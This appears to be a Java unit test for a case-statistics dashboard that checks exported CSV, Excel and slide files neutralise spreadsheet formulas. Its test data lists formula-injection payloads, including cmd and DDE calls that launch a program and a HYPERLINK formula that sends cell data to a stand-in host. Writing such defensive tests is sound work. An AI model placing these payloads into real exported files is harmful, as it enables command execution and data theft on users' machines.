package casestat.dashboard;

import static org.assertj.core.api.Assertions.assertThat;

import casestat.command.Progress;
import casestat.lake.Event;
import casestat.lake.Period;
import casestat.profile.EditionPeriod;
import casestat.report.EditionMaker;
import casestat.report.Release;
import casestat.report.SmallLake;
import casestat.report.WordLake;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Words that a spreadsheet would calculate stay words in every file of casestat that it opens. */
class FormulaWordsTest {
  private static final List<String> BEFORE = List.of("", " ", "\u00A0", "\uFEFF \u3000", "'");
  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(A1:A9)",
          "=cmd|' /C calc'!A0",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "=HYPERLINK(\"http://x.invalid/?\"&A1,\"more\")",
          "=WEBSERVICE(\"http://x.invalid\")",
          "-2+3+cmd|' /C calc'!A0",
          "＝1＋1",
          "＋1",
          "＠SUM(A1)");

  /** A sign that begins a formula, whatever of nothing stands before it. */
  private static final Pattern FORMULA =
      Pattern.compile("[\\s\\p{Z}\\p{Cf}\\x00]*[=+@＝＋－＠-].*|[\\t\\r\\n\\x00].*", Pattern.DOTALL);

  private static final Pattern NUMBER = Pattern.compile("[+-]\\d[\\d.,]*( ?(%|[a-z]+))?");

  /** Which words stand in a column of a kind of file. */
  private final Map<String, Set<String>> seen = new TreeMap<>();

  private final List<String> wrong = new ArrayList<>();

  private static List<String> words() {
    List<String> words = new ArrayList<>();
    for (String before : BEFORE) {
      FORMULAS.forEach(formula -> words.add(before + formula));
    }
    return words;
  }

  @Test
  void whatWouldBeCalculatedIsAWordInEveryFile(@TempDir Path folder) throws IOException {
    assertThat(words()).hasSize(60).doesNotHaveDuplicates();
    SmallLake small = WordLake.in(folder, words());
    Path published = folder.resolve("published");
    List<Path> editions = new ArrayList<>();
    editions.add(edition(small, published, SmallLake.NOVEMBER));
    // Of every case something comes to be known later, which the second edition tells of.
    Instant later = SmallLake.NOVEMBER.plus(Duration.ofDays(3));
    List<Event> news = new ArrayList<>();
    Instant at = Instant.parse("2026-10-30T12:00:00Z");
    for (int i = 0; i < words().size(); i++) {
      news.add(WordLake.event("d2", words().get(i), at, Event.Kind.REOPENED, 1000 + i));
    }
    small.deliver("d2", List.of(), news, List.of(), later).analyze("run-2", later);
    editions.add(edition(small, published, later));

    try (Dashboard dashboard = new Dashboard(small.profile(), small.lake(), published)) {
      dashboard.start("127.0.0.1", 0);
      for (String file : files(dashboard.port(), small)) {
        byte[] bytes = bytes(dashboard.port(), file);
        String path = file.replaceAll("\\?.*", "");
        read(path.contains("/cases") ? "cases" : path.split("/")[1], path, bytes);
      }
    }
    for (Path edition : editions) {
      try (Stream<Path> all = Files.walk(edition)) {
        for (Path file : all.filter(Files::isRegularFile).toList()) {
          read(file.getFileName().toString(), file.toString(), Files.readAllBytes(file));
        }
      }
    }

    assertThat(wrong).isEmpty();
    assertThat(seen)
        .containsKeys(
            "figures csv, key",
            "figures csv, label",
            "pages csv, series",
            "pages csv, service_type",
            "charter-1075-by-agency.csv csv, department",
            "figures.csv csv, member",
            "restatements.csv csv, member",
            "restatement_cases.csv csv, case_id",
            "data of a slide, column 0",
            "es sheet, column 5",
            "workbook.xlsx sheet, column 5");
    // Of series a chart shows some; every other column has all.
    seen.forEach(
        (column, words) -> {
          if (!column.endsWith(" series") && !column.matches("data of a slide, column [1-9]")) {
            assertThat(words).as(column).hasSize(60);
          }
        });
  }

  private static Path edition(SmallLake small, Path published, Instant at) {
    return new EditionMaker(small.profile(), small.lake(), published, Progress.onStandardError())
        .make(EditionPeriod.month(Period.yearMonth(202610)), Release.published(at));
  }

  /** Every file for spreadsheets that a page leads to, of figures by everything that has words. */
  private static Set<String> files(int port, SmallLake small) throws IOException {
    List<String> pages = new ArrayList<>();
    small.profile().pages().forEach(p -> pages.add("/pages/" + p.page() + "?month=2026-10"));
    for (String by : List.of("service_type", "department", "channel", "area")) {
      for (String metric : List.of("incoming_cases", "reopen_rate", "resolution_time_median")) {
        pages.add("/figures/%s?month=2026-10&by=%s".formatted(metric, by));
      }
    }
    String first = URLEncoder.encode(words().get(0), StandardCharsets.UTF_8);
    pages.add("/figures/incoming_cases?month=2026-10&by=channel&department=" + first);
    pages.add("/figures/incoming_cases?month=2026-10&by=department&vs=previous");
    pages.add("/cases?metric=incoming_cases&month=2026-10");
    pages.add("/es/pages/overview?month=2026-10");
    Set<String> files = new TreeSet<>();
    for (String page : pages) {
      Browser.links(new String(bytes(port, page), StandardCharsets.UTF_8)).stream()
          .filter(link -> link.matches("[^?]*\\.(csv|xlsx)(\\?.*)?"))
          .forEach(files::add);
    }
    return files;
  }

  private static byte[] bytes(int port, String path) throws IOException {
    try (InputStream in = URI.create("http://127.0.0.1:" + port + path).toURL().openStream()) {
      return in.readAllBytes();
    }
  }

  private void read(String kind, String name, byte[] bytes) throws IOException {
    if (name.endsWith(".csv")) {
      csv(kind, name, bytes);
    } else if (name.endsWith(".xlsx")) {
      workbook(kind + " sheet", name, new ByteArrayInputStream(bytes));
    } else if (name.endsWith(".pptx")) {
      try (XMLSlideShow show = new XMLSlideShow(new ByteArrayInputStream(bytes))) {
        for (PackagePart part : show.getPackage().getPartsByName(Pattern.compile(".*\\.xlsx"))) {
          workbook("data of a slide", name, part.getInputStream());
        }
      }
    }
  }

  private void csv(String kind, String name, byte[] bytes) throws IOException {
    try (CsvReader<CsvRecord> lines =
        CsvReader.builder().ofCsvRecord(new String(bytes, StandardCharsets.UTF_8))) {
      List<String> head = new ArrayList<>();
      for (CsvRecord line : lines) {
        if (head.isEmpty()) {
          head.addAll(line.getFields());
        }
        for (int i = 0; i < line.getFieldCount(); i++) {
          String cell = line.getField(i);
          if (FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches()) {
            wrong.add("%s:%d %s: %s".formatted(name, line.getStartingLineNumber(), head, cell));
          }
          saw(kind + " csv, " + head.get(i), cell.startsWith("'") ? cell.substring(1) : cell);
        }
      }
    }
  }

  private void workbook(String kind, String name, InputStream in) throws IOException {
    try (XSSFWorkbook book = new XSSFWorkbook(in)) {
      for (Sheet sheet : book) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            String at = "%s, %s!%s: ".formatted(name, sheet.getSheetName(), cell.getAddress());
            if (cell.getCellType() == CellType.FORMULA
                && cell.getCellFormula().matches("(?i).*(cmd|dde|webservice|invalid|1\\+1).*")) {
              wrong.add(at + cell.getCellFormula());
            }
            if (cell.getCellType() == CellType.STRING) {
              String text = cell.getStringCellValue();
              if (FORMULA.matcher(text).matches() && !cell.getCellStyle().getQuotePrefixed()) {
                wrong.add(at + text);
              }
              saw(kind + ", column " + cell.getColumnIndex(), text);
            }
          }
        }
      }
    }
  }

  private void saw(String column, String text) {
    if (words().contains(text)) {
      seen.computeIfAbsent(column, c -> new TreeSet<>()).add(text);
    }
  }
}
